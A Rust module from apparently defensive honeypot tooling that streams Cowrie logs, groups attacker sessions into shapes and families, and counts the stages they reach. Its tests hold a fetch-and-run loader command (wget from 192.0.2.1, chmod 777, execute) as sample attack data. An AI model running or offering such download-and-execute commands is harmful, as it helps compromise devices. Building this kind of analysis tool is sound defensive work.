// SPDX-License-Identifier: Apache-2.0
//! Millions of lines of logs, summarised: sessions by shape, shapes by family, stages reached.
//!
//! Streaming: a session is followed until it ends and then only counted. Two sessions have one
//! shape when their lines have the same shapes in the same order, repetitions left out; shapes that
//! share most of their lines are one family. Everything kept is bounded; what finds no room is
//! counted as such.

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::hash::{DefaultHasher, Hash, Hasher};

use kakoi_model::{Digest, Purpose, Stage, Timestamp};
use kakoi_shell::clean_line;

use super::classify::{Classifier, LineStages};
use super::record::{Record, parse_record};
use super::shape::shape_of;

/// Sessions that are followed at once; more end the one that began first.
const MAX_OPEN: usize = 50_000;
/// Distinct shapes of lines and of sessions that are kept.
const MAX_LINE_SHAPES: usize = 200_000;
const MAX_SESSION_SHAPES: usize = 100_000;
/// Lines of a session that take part in its shape.
const MAX_SHAPE_LINES: usize = 64;
/// Share of common lines from which two shapes are one family.
const FAMILY_SHARE: f64 = 0.5;

/// Sessions of one shape.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Shape {
    lines: Vec<u64>,
    counts: Counts,
}

/// What is counted of sessions.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Counts {
    /// Sessions.
    pub sessions: u64,
    /// Command lines of them.
    pub lines: u64,
    /// Sessions that reached each stage.
    pub stages: BTreeMap<Stage, u64>,
    /// First and last time that the log tells.
    pub seen: Option<(Timestamp, Timestamp)>,
    /// The name of one session, the least in byte order.
    pub example: String,
}

/// A family: shapes that share most of their lines.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Family {
    /// A name that only depends on the shape of its most frequent sessions.
    pub name: String,
    /// Distinct shapes of sessions.
    pub shapes: u64,
    /// All its sessions.
    pub counts: Counts,
    /// The lines of its most frequent shape.
    pub pattern: Vec<String>,
}

/// What a summary says.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Report {
    /// Lines of the log that were read.
    pub lines: u64,
    /// Of them, JSON that is not whole.
    pub broken: u64,
    /// Of them, command lines.
    pub inputs: u64,
    /// Sub-commands by what they were for.
    pub purposes: BTreeMap<Purpose, u64>,
    /// All sessions.
    pub all: Counts,
    /// Sessions whose shape found no room.
    pub unplaced: u64,
    /// Most frequent first.
    pub families: Vec<Family>,
}

/// Collects lines.
#[derive(Debug, Default)]
pub struct Summary {
    report: Report,
    open: HashMap<Box<str>, Open>,
    order: VecDeque<Box<str>>,
    line_shapes: HashMap<u64, Box<str>>,
    shapes: HashMap<u64, Shape>,
    buffer: String,
}

/// A session that is followed.
#[derive(Debug, Default)]
struct Open {
    classifier: Classifier,
    shape: Vec<u64>,
    lines: u64,
    stages: u8,
    seen: Option<(Timestamp, Timestamp)>,
}

impl Summary {
    /// A summary of nothing yet.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Takes a line of a log. `transcript` names the session of plain lines.
    pub fn push(&mut self, transcript: &str, line: &[u8]) {
        self.report.lines += 1;
        match parse_record(line) {
            Record::Input { session, time, text, .. } => {
                let session = if session.is_empty() { transcript } else { session.as_ref() };
                self.input(session, time, &text);
            }
            Record::End { session } => self.end(&session),
            Record::Broken => self.report.broken += 1,
            Record::Call { .. } | Record::Other => {}
        }
    }

    fn input(&mut self, session: &str, time: Option<Timestamp>, text: &[u8]) {
        let text = clean_line(text);
        if text.trim_ascii().is_empty() {
            return;
        }
        self.report.inputs += 1;
        let shape = self.line_shape(&text);
        if !self.open.contains_key(session) {
            self.begin(session);
        }
        let Some(open) = self.open.get_mut(session) else { return };
        open.lines += 1;
        if open.shape.len() < MAX_SHAPE_LINES && open.shape.last() != Some(&shape) {
            open.shape.push(shape);
        }
        if let Some(time) = time {
            open.seen = merge_seen(open.seen, Some((time, time)));
        }
        let number = open.lines;
        if let Some(line) = open.classifier.push(number, &text) {
            count_line(&mut self.report.purposes, &mut open.stages, &line);
        }
    }

    /// The identity of a line's shape, whose text is remembered if there is room.
    fn line_shape(&mut self, text: &[u8]) -> u64 {
        shape_of(text, &mut self.buffer);
        let mut hasher = DefaultHasher::new();
        self.buffer.hash(&mut hasher);
        let identity = hasher.finish();
        if self.line_shapes.len() < MAX_LINE_SHAPES && !self.line_shapes.contains_key(&identity) {
            self.line_shapes.insert(identity, self.buffer.as_str().into());
        }
        identity
    }

    fn begin(&mut self, session: &str) {
        while self.open.len() >= MAX_OPEN {
            let Some(oldest) = self.order.pop_front() else { break };
            self.end(&oldest);
        }
        self.open.insert(session.into(), Open::default());
        self.order.push_back(session.into());
    }

    fn end(&mut self, session: &str) {
        let Some((session, mut open)) = self.open.remove_entry(session) else { return };
        if self.order.len() > 2 * self.open.len() + 1_024 {
            self.order.retain(|session| self.open.contains_key(session));
        }
        for line in open.classifier.finish() {
            count_line(&mut self.report.purposes, &mut open.stages, &line);
        }
        let counts = open.counts(&session);
        self.report.all.add(&counts);
        self.place(open.shape, &counts);
    }

    fn place(&mut self, lines: Vec<u64>, counts: &Counts) {
        let mut hasher = DefaultHasher::new();
        lines.hash(&mut hasher);
        let identity = hasher.finish();
        if let Some(shape) = self.shapes.get_mut(&identity) {
            shape.counts.add(counts);
        } else if self.shapes.len() < MAX_SESSION_SHAPES {
            self.shapes.insert(identity, Shape { lines, counts: counts.clone() });
        } else {
            self.report.unplaced += counts.sessions;
        }
    }

    /// Ends every session that is still followed.
    pub fn finish(&mut self) {
        while let Some(session) = self.order.pop_front() {
            self.end(&session);
        }
    }

    /// Takes over what another summary, of other sessions, has counted. Both must be finished.
    pub fn merge(&mut self, other: Self) {
        self.report.lines += other.report.lines;
        self.report.broken += other.report.broken;
        self.report.inputs += other.report.inputs;
        self.report.unplaced += other.report.unplaced;
        self.report.all.add(&other.report.all);
        for (purpose, count) in other.report.purposes {
            *self.report.purposes.entry(purpose).or_default() += count;
        }
        for (identity, text) in other.line_shapes {
            if self.line_shapes.len() < MAX_LINE_SHAPES {
                self.line_shapes.entry(identity).or_insert(text);
            }
        }
        for shape in other.shapes.into_values() {
            self.place(shape.lines, &shape.counts);
        }
    }

    /// The report: shapes put together into families.
    #[must_use]
    pub fn report(mut self) -> Report {
        self.finish();
        let mut shapes: Vec<(u64, Shape)> = self.shapes.drain().collect();
        shapes.sort_by(|(one, a), (other, b)| {
            b.counts.sessions.cmp(&a.counts.sessions).then(one.cmp(other))
        });
        let mut families: Vec<(Family, Vec<u64>)> = Vec::new();
        let mut by_line: HashMap<u64, Vec<usize>> = HashMap::new();
        for (_, shape) in shapes {
            let mut lines = shape.lines.clone();
            lines.sort_unstable();
            lines.dedup();
            match nearest(&lines, &families, &by_line) {
                Some(at) => {
                    families[at].0.shapes += 1;
                    families[at].0.counts.add(&shape.counts);
                }
                None => {
                    for line in &lines {
                        by_line.entry(*line).or_default().push(families.len());
                    }
                    families.push((self.family(shape), lines));
                }
            }
        }
        self.report.families = families.into_iter().map(|(family, _)| family).collect();
        self.report.families.sort_by(|a, b| {
            b.counts.sessions.cmp(&a.counts.sessions).then_with(|| a.name.cmp(&b.name))
        });
        self.report
    }

    fn family(&self, shape: Shape) -> Family {
        let text = |line: &u64| self.line_shapes.get(line).map_or("…", |text| text).to_owned();
        let pattern: Vec<String> = shape.lines.iter().map(text).collect();
        Family { name: name_of(&pattern), shapes: 1, counts: shape.counts, pattern }
    }
}

/// Twelve digits of the digest of the pattern.
fn name_of(pattern: &[String]) -> String {
    let digest = Digest::of(pattern.join("\n").as_bytes()).to_string();
    digest.chars().take(12).collect()
}

/// The family that shares most lines, if it shares enough. Of lines that very many families have
/// only the first are looked at: they tell little.
fn nearest(
    lines: &[u64],
    families: &[(Family, Vec<u64>)],
    by_line: &HashMap<u64, Vec<usize>>,
) -> Option<usize> {
    const MOST: usize = 256;
    let mut common: BTreeMap<usize, usize> = BTreeMap::new();
    for family in
        lines.iter().filter_map(|line| by_line.get(line)).flat_map(|list| list.iter().take(MOST))
    {
        *common.entry(*family).or_default() += 1;
    }
    let share =
        |at: usize, both: usize| both as f64 / (lines.len() + families[at].1.len() - both) as f64;
    let best = common.into_iter().map(|(at, both)| (share(at, both), at));
    let best = best.max_by(|a, b| a.0.total_cmp(&b.0).then(b.1.cmp(&a.1)));
    best.filter(|(share, _)| *share >= FAMILY_SHARE).map(|(_, at)| at)
}

impl Open {
    fn counts(&self, session: &str) -> Counts {
        let reached = Stage::ALL.into_iter().filter(|stage| self.stages & bit(*stage) != 0);
        Counts {
            sessions: 1,
            lines: self.lines,
            stages: reached.map(|stage| (stage, 1)).collect(),
            seen: self.seen,
            example: session.chars().take(64).collect(),
        }
    }
}

impl Counts {
    fn add(&mut self, other: &Self) {
        if self.sessions == 0 || (other.sessions > 0 && other.example < self.example) {
            self.example.clone_from(&other.example);
        }
        self.sessions += other.sessions;
        self.lines += other.lines;
        self.seen = merge_seen(self.seen, other.seen);
        for (stage, count) in &other.stages {
            *self.stages.entry(*stage).or_default() += count;
        }
    }
}

fn merge_seen(
    one: Option<(Timestamp, Timestamp)>,
    other: Option<(Timestamp, Timestamp)>,
) -> Option<(Timestamp, Timestamp)> {
    match (one, other) {
        (Some(one), Some(other)) => Some((one.0.min(other.0), one.1.max(other.1))),
        (one, other) => one.or(other),
    }
}

fn bit(stage: Stage) -> u8 {
    1 << (stage as u8)
}

fn count_line(purposes: &mut BTreeMap<Purpose, u64>, stages: &mut u8, line: &LineStages) {
    for part in &line.parts {
        *purposes.entry(part.purpose).or_default() += 1;
        *stages |= part.purpose.stage().map_or(0, bit);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(session: &str, second: u32, input: &str) -> String {
        let input = serde_json::to_string(input).unwrap();
        format!(
            r#"{{"eventid":"cowrie.command.input","session":"{session}","timestamp":"2024-01-01T00:00:{second:02}Z","input":{input}}}"#
        )
    }

    fn push_loader(summary: &mut Summary, session: &str, token: &str) {
        for (second, text) in (0..).zip([
            "sh".to_owned(),
            format!("/bin/busybox {token}"),
            format!("cd /tmp; wget http://192.0.2.1/{token}; chmod 777 {token}; ./{token}"),
        ]) {
            summary.push("", line(session, second, &text).as_bytes());
        }
    }

    #[test]
    fn sessions_of_one_shape_are_one_family_whatever_their_tokens() {
        let mut summary = Summary::new();
        push_loader(&mut summary, "b", "ECCHI");
        push_loader(&mut summary, "a", "QZZ");
        summary.push("", line("c", 9, "uname -a").as_bytes());
        summary.push("", b"{\"broken");
        let report = summary.report();
        assert_eq!((report.lines, report.inputs, report.broken, report.all.sessions), (8, 7, 1, 3));
        let family = &report.families[0];
        assert_eq!(
            (family.counts.sessions, family.shapes, family.counts.example.as_str()),
            (2, 1, "a")
        );
        let stages: Vec<Stage> = family.counts.stages.keys().copied().collect();
        assert_eq!(stages, [Stage::S1, Stage::S2, Stage::S4a, Stage::S5, Stage::S6b]);
        assert_eq!(
            family.counts.seen.map(|(_, last)| last.to_string()).unwrap(),
            "2024-01-01T00:00:02Z"
        );
        assert_eq!(report.families.len(), 2);
    }

    #[test]
    fn shapes_that_share_most_lines_are_one_family() {
        let mut summary = Summary::new();
        push_loader(&mut summary, "a", "X1");
        push_loader(&mut summary, "b", "X2");
        summary.push("", line("b", 5, "uname -a").as_bytes());
        let report = summary.report();
        assert_eq!((report.families.len(), report.families[0].shapes), (1, 2));
    }

    #[test]
    fn parts_that_were_counted_apart_are_put_together() {
        let (mut one, mut other) = (Summary::new(), Summary::new());
        push_loader(&mut one, "a", "X1");
        push_loader(&mut other, "b", "X2");
        one.finish();
        other.finish();
        one.merge(other);
        let mut whole = Summary::new();
        push_loader(&mut whole, "a", "X1");
        push_loader(&mut whole, "b", "X2");
        assert_eq!(one.report(), whole.report());
    }
}
